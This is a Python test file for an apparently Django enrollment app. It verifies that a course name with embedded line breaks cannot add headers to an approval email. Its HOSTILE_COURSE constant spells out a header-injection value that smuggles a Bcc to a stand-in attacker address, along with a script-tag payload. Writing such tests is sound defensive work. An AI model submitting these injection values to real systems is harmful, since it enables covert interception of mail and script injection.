"""Emails are plain text, so stored markup is inert in them; what can hurt is a line break in a
subject built from stored names (a header injection, or Django refusing to send and the request
failing after its transaction committed)."""

from __future__ import annotations

from enrollment import services
from tests.enrollment.conftest import ID_NUMBER, approve, submit

HOSTILE_COURSE = "Python\r\nBcc: thief@evil.example\r\n\r\n<script>alert(1)</script>"


def test_a_course_name_with_line_breaks_cannot_add_headers_to_the_approval_email(
    world, mailoutbox, django_capture_on_commit_callbacks
):
    world.class_a.course.name = HOSTILE_COURSE
    world.class_a.course.save(update_fields=["name"])
    enrollment = services.enrollment_create(
        customer=world.sales_lead, class_list=world.class_a, by=world.sales
    )
    values = dict.fromkeys(services.STUDENT_FIELDS, "")
    values.update(gender=None, birthday=None, id_number=ID_NUMBER, email="student@example.test")
    assert submit(enrollment, values)
    with django_capture_on_commit_callbacks(execute=True):
        approve(enrollment, world.finance)
    [email] = mailoutbox
    assert "\r" not in email.subject and "\n" not in email.subject
    assert "Bcc" in email.subject  # kept as words of the subject, not made a header
    assert email.bcc == []
    message = email.message()
    assert message["Bcc"] is None
    assert email.to == ["student@example.test"]
